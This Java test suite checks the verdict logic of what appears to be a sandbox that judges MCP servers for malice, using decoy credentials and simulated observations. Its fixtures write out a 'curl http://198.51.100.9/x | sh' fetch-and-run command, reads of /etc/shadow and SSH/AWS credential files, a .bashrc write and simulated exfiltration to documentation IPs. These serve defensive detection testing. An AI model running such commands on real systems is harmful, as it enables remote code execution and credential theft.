package io.mcpsf.judge;

import static org.assertj.core.api.Assertions.assertThat;

import io.mcpsf.model.Confidence;
import io.mcpsf.model.Coverage;
import io.mcpsf.model.Evidence;
import io.mcpsf.model.FileObservation.Access;
import io.mcpsf.model.FileObservation.BaitTouched;
import io.mcpsf.model.FileObservation.FileOpened;
import io.mcpsf.model.FileObservation.Touch;
import io.mcpsf.model.Finding;
import io.mcpsf.model.Judgement;
import io.mcpsf.model.Judgement.Item;
import io.mcpsf.model.Maturity;
import io.mcpsf.model.NetworkObservation.RequestSent;
import io.mcpsf.model.Observation.Repeated;
import io.mcpsf.model.Phase;
import io.mcpsf.model.PhaseResult;
import io.mcpsf.model.ProcessObservation.Slept;
import io.mcpsf.model.ProtocolObservation.Greeted;
import io.mcpsf.model.ProtocolObservation.NotExercised;
import io.mcpsf.model.ProtocolObservation.PlaceAttacked;
import io.mcpsf.model.RuleInfo;
import io.mcpsf.model.Sense;
import io.mcpsf.model.SenseHealth;
import io.mcpsf.model.Severity;
import io.mcpsf.model.SocketObservation.BaitLeft;
import io.mcpsf.model.SocketObservation.Bound;
import io.mcpsf.model.SocketObservation.Connected;
import io.mcpsf.model.SocketObservation.DnsAsked;
import io.mcpsf.model.ToolCoverage;
import io.mcpsf.model.Verdict;

import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.Collections;
import java.util.EnumMap;
import java.util.List;
import java.util.Random;

final class JudgeTest {

    private static final RuleSet RULES = RuleSet.load();
    private static final BaitTouched KEY = read("ssh", "/home/ana/.ssh/id_rsa");

    @Test
    void aDecoyThatLeftIsMalicious() {
        Judgement judgement =
                judge(
                        new Story()
                                .by(1)
                                .sees(KEY)
                                .sees(read("aws", "/home/ana/.aws/credentials"))
                                .sees(
                                        new BaitLeft(
                                                "b", "ssh", "socket", "tcp 203.0.113.7:443", "x")));

        assertThat(judgement.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(judgement.summary())
                .isEqualTo("Read 2 decoy credentials and tried to send them to 203.0.113.7:443.");
        assertThat(judgement.risk().malice()).isEqualTo(100);
        assertThat(judgement.recommendations().getFirst()).startsWith("Do not run this server");
        assertThat(judgement.recommendations()).doesNotHaveDuplicates();
    }

    @Test
    void theSummaryNamesWhatArrivedBeforeWhatWasTried() {
        Judgement judgement =
                judge(
                        new Story()
                                .by(1)
                                .sees(KEY)
                                .sees(new BaitLeft("b", "ssh", "argv", "/usr/bin/curl", "x"))
                                .sees(
                                        new BaitLeft(
                                                "b", "ssh", "socket", "tcp 203.0.113.66:80", "x"))
                                .sees(
                                        new RequestSent(
                                                "HTTP/1.1",
                                                "POST",
                                                "http://203.0.113.66/u",
                                                "",
                                                3,
                                                "abc",
                                                false))
                                .sees(new BaitLeft("b", "ssh", "http", "203.0.113.66:80", "x")));

        assertThat(judgement.summary())
                .isEqualTo("Read a decoy credential and sent it to 203.0.113.66:80 over HTTP.");
        assertThat(judgement.findings())
                .filteredOn(finding -> finding.rule().equals("bait-left"))
                .extracting(Finding::message)
                .containsExactly(
                        "The decoy b was exfiltrated in the arguments of a program, encoding: x.",
                        "The decoy b was exfiltrated in the request POST"
                                + " http://203.0.113.66/u, encoding: x.");
    }

    @Test
    void aDecoyReadAndThenAConnectionIsMalicious() {
        Judgement judgement =
                judge(new Story().by(1).sees(KEY).sees(new Connected("tcp", "203.0.113.7", 443)));

        assertThat(judgement.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(judgement.summary())
                .isEqualTo("Read a decoy credential and then tried to reach 203.0.113.7:443.");
    }

    @Test
    void aDecoyReadAloneIsSuspicious() {
        assertThat(judge(new Story().sees(KEY)).verdict()).isEqualTo(Verdict.SUSPICIOUS);
    }

    @Test
    void aLoneWeakSignalIsNotSuspicious() {
        Judgement judgement = judge(new Story().sees(new Slept(3_600_000)));

        assertThat(judgement.findings()).extracting(Finding::rule).containsExactly("long-sleep");
        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
    }

    @Test
    void twoWeakSignalsOfDifferentFamiliesAreSuspicious() {
        Judgement judgement =
                judge(
                        new Story()
                                .sees(new Slept(3_600_000))
                                .sees(new DnsAsked("api.telegram.org", "A", "")));

        assertThat(judgement.verdict()).isEqualTo(Verdict.SUSPICIOUS);
        assertThat(judgement.summary()).startsWith("Two independent weak signs");
    }

    @Test
    void exposureWithoutMaliceIsRisky() {
        Judgement judgement = judge(new Story().sees(new Bound("tcp", "0.0.0.0", 8080)));

        assertThat(judgement.verdict()).isEqualTo(Verdict.RISKY);
        assertThat(judgement.risk().malice()).isZero();
    }

    @Test
    void notHavingLookedUpDependenciesIsSaidBesideEveryGoodWord() {
        for (Story story :
                List.of(
                        new Story().calls(1, "add", "{}"),
                        new Story().sees(new Bound("tcp", "0.0.0.0", 8080)))) {
            Evidence whole = story.evidence();
            var senses = new EnumMap<Sense, SenseHealth>(whole.coverage().senses());
            senses.put(Sense.ADVISORIES, SenseHealth.blind("none imported"));
            var coverage =
                    new Coverage(
                            whole.coverage().phases(),
                            senses,
                            whole.coverage().tools(),
                            whole.coverage().isolation());

            assertThat(judge(whole).summary()).doesNotContain("dependencies");
            assertThat(judge(new Evidence(whole.file(), whole.seen(), coverage)).summary())
                    .endsWith(". Its dependencies were not checked for known vulnerabilities.");
        }
    }

    @Test
    void nothingSeenSaysHowManyToolsAnswered() {
        Judgement judgement = judge(new Story().calls(1, "add", "{}"));

        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
        assertThat(judgement.summary()).contains("its only tool completed");
        assertThat(judgement.risk().score()).isZero();
        assertThat(judgement.doubts()).isEmpty();
    }

    @Test
    void everyReasonForDoubtForbidsACleanVerdict() {
        Evidence whole = new Story().calls(1, "add", "{}").evidence();
        Coverage full = whole.coverage();
        var noList = new EnumMap<Phase, PhaseResult>(full.phases());
        noList.remove(Phase.LIST);
        var late = new EnumMap<Phase, PhaseResult>(full.phases());
        late.put(Phase.IDLE, new PhaseResult(PhaseResult.Status.TIMED_OUT, 1, ""));
        var failed = new EnumMap<Phase, PhaseResult>(full.phases());
        failed.put(Phase.START, new PhaseResult(PhaseResult.Status.FAILED, 1, "it ended"));
        var lossy = new EnumMap<Sense, SenseHealth>(full.senses());
        lossy.put(Sense.FILES, SenseHealth.lossy(5, 1, "the queue was full"));
        var blind = new EnumMap<Sense, SenseHealth>(full.senses());
        blind.remove(Sense.SOCKETS);
        var none = new ToolCoverage(10, 10, 7);

        for (Coverage doubtful :
                List.of(
                        new Coverage(noList, full.senses(), full.tools(), full.isolation()),
                        new Coverage(late, full.senses(), full.tools(), full.isolation()),
                        new Coverage(failed, full.senses(), full.tools(), full.isolation()),
                        new Coverage(full.phases(), lossy, full.tools(), full.isolation()),
                        new Coverage(full.phases(), blind, full.tools(), full.isolation()),
                        new Coverage(full.phases(), full.senses(), none, full.isolation()),
                        Coverage.nothing())) {
            Judgement judgement = judge(new Evidence(whole.file(), whole.seen(), doubtful));

            assertThat(judgement.verdict()).isEqualTo(Verdict.INCONCLUSIVE);
            assertThat(judgement.doubts()).hasSize(1);
            assertThat(judgement.doubts().getFirst()).endsWith(".");
            assertThat(judgement.risk().assurance()).isLessThan(100);
            // What never offered its tools is no MCP server that a score would say something of.
            assertThat(judgement.scored()).isEqualTo(doubtful.done(Phase.LIST));
            assertThat(judgement.risk().score() > 0).isEqualTo(judgement.scored());
        }
    }

    @Test
    void withoutOneExercisedToolAssuranceIsLowAndTheVerdictStaysWithAReservation() {
        Judgement judgement = judge(tools(12, 12, 12, 12));

        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
        assertThat(judgement.risk().assurance()).isLessThanOrEqualTo(40);
        assertThat(judgement.doubts())
                .containsExactly(
                        "Only 0 of 12 tools completed a valid call; not add (Error: no such"
                                + " table).");
    }

    @Test
    void aServerThatOffersNothingIsNotCalledWellKnown() {
        Evidence whole = new Story().sees(new Greeted("2025-06-18", "empty", "1", "")).evidence();
        Coverage full = whole.coverage();
        var nothing = new ToolCoverage(0, 0, 0);
        Judgement judgement =
                judge(
                        new Evidence(
                                whole.file(),
                                whole.seen(),
                                new Coverage(
                                        full.phases(), full.senses(), nothing, full.isolation())));

        assertThat(judgement.risk().assurance()).isLessThanOrEqualTo(40);
        assertThat(judgement.doubts())
                .containsExactly(
                        "It offered no tools, prompts or resources, so nothing of it was called.");
    }

    @Test
    void assuranceFollowsTheShareOfExercisedTools() {
        Judgement all = judge(tools(12, 12, 12, 0));
        Judgement half = judge(tools(12, 12, 12, 6));

        assertThat(half.risk().assurance()).isEqualTo(all.risk().assurance() - 15);
        assertThat(half.doubts()).isEmpty();
        assertThat(half.summary()).contains("6 of 12 tools completed a call");
    }

    @Test
    void placesThatWereNotAttackedCostAssurance() {
        Evidence half =
                new Story()
                        .sees(new PlaceAttacked("add", "a", List.of("ssrf"), List.of("oversized")))
                        .evidence();

        assertThat(judge(half).risk().assurance())
                .isEqualTo(judge(new Story().evidence()).risk().assurance() - 5);
    }

    private static Evidence tools(int listed, int called, int answered, int failing) {
        Evidence whole =
                new Story()
                        .calls(1, "add", "{}")
                        .sees(new NotExercised("add", "Error: no such table"))
                        .evidence();
        Coverage full = whole.coverage();
        var counts = new ToolCoverage(listed, called, answered, failing);
        return new Evidence(
                whole.file(),
                whole.seen(),
                new Coverage(full.phases(), full.senses(), counts, full.isolation()));
    }

    @Test
    void provenMaliceStandsThoughTheEvidenceBreaksOff() {
        Evidence whole = new Story().sees(new BaitLeft("b", "ssh", "argv", "", "x")).evidence();
        Judgement judgement = judge(new Evidence(whole.file(), whole.seen(), Coverage.nothing()));

        assertThat(judgement.verdict()).isEqualTo(Verdict.MALICIOUS);
        assertThat(judgement.doubts()).hasSize(1);
        assertThat(judgement.notEvaluated()).isNotEmpty();
        assertThat(judgement.notEvaluated()).noneMatch(rule -> rule.rule().equals("bait-left"));
    }

    @Test
    void aBlindSenseListsTheRulesThatNeedIt() {
        Evidence whole = new Story().calls(1, "add", "{}").evidence();
        var blind = new EnumMap<Sense, SenseHealth>(whole.coverage().senses());
        blind.put(Sense.RESOURCES, SenseHealth.blind("no cgroup"));
        var coverage =
                new Coverage(
                        whole.coverage().phases(),
                        blind,
                        whole.coverage().tools(),
                        whole.coverage().isolation());

        assertThat(judge(new Evidence(whole.file(), whole.seen(), coverage)).notEvaluated())
                .extracting(Judgement.NotEvaluated::rule)
                .containsExactly("fork-bomb", "memory-bomb");
    }

    @Test
    void noVolumeOfWeakThingsMovesMalice() {
        var few = new Story().sees(new Slept(3_600_000));
        var many = new Story().sees(new Slept(3_600_000));
        for (int i = 0; i < 10_000; i++) {
            many.sees(new Slept(3_600_000 + i)).sees(new DnsAsked("t" + i + ".invalid", "A", ""));
        }
        many.sees(new Repeated(1, 1_000_000));

        Judgement judged = judge(many);

        assertThat(judged.risk().malice()).isEqualTo(judge(few).risk().malice());
        assertThat(judged.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
        assertThat(judged.findings())
                .allSatisfy(f -> assertThat(f.seen()).hasSizeLessThanOrEqualTo(50));
    }

    @Test
    void theOrderOfRulesChangesNoByte() {
        Evidence evidence = wild();
        String expected = judge(evidence).toString();
        var rules = new ArrayList<>(RULES.rules());
        for (int seed = 0; seed < 5; seed++) {
            Collections.shuffle(rules, new Random(seed));

            assertThat(Judge.judge(evidence, RuleSet.of(rules)).toString()).isEqualTo(expected);
        }
    }

    @Test
    void thePointsOfTheItemsAddUpToTheScore() {
        for (Evidence evidence :
                List.of(
                        wild(),
                        new Story().sees(KEY).evidence(),
                        new Story().sees(new Bound("tcp", "0.0.0.0", 80)).sees(KEY).evidence())) {
            Judgement.Risk risk = judge(evidence).risk();

            assertThat(risk.items().stream().mapToInt(Item::points).sum()).isEqualTo(risk.score());
        }
    }

    @Test
    void findingsStandWorstFirstAndKnowTheirTool() {
        Judgement judgement =
                judge(
                        new Story()
                                .sees(new DnsAsked("t.invalid", "A", ""))
                                .calls(1, "weather", "{\"city\":\"Bern\"}")
                                .sees(KEY));

        assertThat(judgement.findings())
                .extracting(Finding::severity)
                .isSortedAccordingTo(Collections.reverseOrder());
        assertThat(judgement.findings().getFirst().tool()).isEqualTo("weather");
        assertThat(judgement.findings().getFirst().phase()).isEqualTo(Phase.CALL);
    }

    @Test
    void anIdIsTheSameForAnotherPersona() {
        assertThat(judge(new Story().sees(read("ssh", "/home/bo/.ssh/id_rsa"))).findings())
                .extracting(Finding::id)
                .containsAll(
                        judge(new Story().sees(KEY)).findings().stream().map(Finding::id).toList());
    }

    @Test
    void fortyDecoysOfOneKindAreOneFinding() {
        var story = new Story();
        for (int i = 0; i < 80; i++) {
            story.sees(new BaitTouched("key" + i, "ssh", "/home/ana/.ssh/id_" + i, Touch.READ));
        }

        Finding finding =
                judge(story).findings().stream()
                        .filter(f -> f.rule().equals("bait-read"))
                        .reduce(
                                (a, b) -> {
                                    throw new AssertionError("more than one finding");
                                })
                        .orElseThrow();
        assertThat(finding.message()).endsWith("(and 79 more like it)");
        assertThat(finding.seen()).hasSize(50);
    }

    @Test
    void aTrialRuleIsShownAndNeverDecides() {
        var trial =
                new Rule() {
                    @Override
                    public About about() {
                        var stable = new BaitRead().about();
                        var info = stable.info();
                        return new About(
                                new RuleInfo(
                                        "trial-rule",
                                        info.title(),
                                        Severity.CRITICAL,
                                        Confidence.PROVEN,
                                        info.axis(),
                                        Maturity.TRIAL,
                                        info.needs(),
                                        info.references(),
                                        info.advice()),
                                stable.family(),
                                stable.description());
                    }

                    @Override
                    public List<Finding> judge(Trail trail) {
                        var claims = new Claims(info(), trail);
                        claims.add("", "Always.", trail.evidence().seen().getFirst());
                        return claims.findings();
                    }

                    @Override
                    public List<Example> examples() {
                        return List.of();
                    }
                };
        Judgement judgement =
                Judge.judge(
                        new Story().calls(1, "add", "{}").evidence(), RuleSet.of(List.of(trial)));

        assertThat(judgement.findings()).hasSize(1);
        assertThat(judgement.verdict()).isEqualTo(Verdict.NOTHING_SEEN);
        assertThat(judgement.risk().score()).isZero();
    }

    @Test
    void anAlarmBeforeTheFirstCallIsSaidSoAndDecidesNothingMore() {
        Judgement judgement = judge(new Story().sees(KEY).calls(1, "add", "{}"));

        assertThat(judgement.findings())
                .anySatisfy(
                        finding -> {
                            assertThat(finding.rule()).isEqualTo("before-first-call");
                            assertThat(finding.severity()).isEqualTo(Severity.MEDIUM);
                        });
        assertThat(judgement.verdict()).isEqualTo(Verdict.SUSPICIOUS);
    }

    private static Evidence wild() {
        return new Story()
                .by(1)
                .sees(KEY)
                .sees(read("aws", "/home/ana/.aws/credentials"))
                .sees(new FileOpened("/etc/shadow", "/etc/shadow", Access.READ, true))
                .sees(new FileOpened("/home/ana/.bashrc", "", Access.WRITE, true))
                .sees(new DnsAsked("x.oast.pro", "A", ""))
                .calls(1, "add", "{}")
                .starts(2, 1, "/bin/sh", "sh", "-c", "curl http://198.51.100.9/x | sh")
                .sees(new Connected("tcp", "198.51.100.9", 80))
                .sees(new Bound("tcp", "0.0.0.0", 4444))
                .evidence();
    }

    private static BaitTouched read(String kind, String path) {
        return new BaitTouched(kind + "-bait", kind, path, Touch.READ);
    }

    private static Judgement judge(Story story) {
        return judge(story.evidence());
    }

    private static Judgement judge(Evidence evidence) {
        return Judge.judge(evidence, RULES);
    }
}
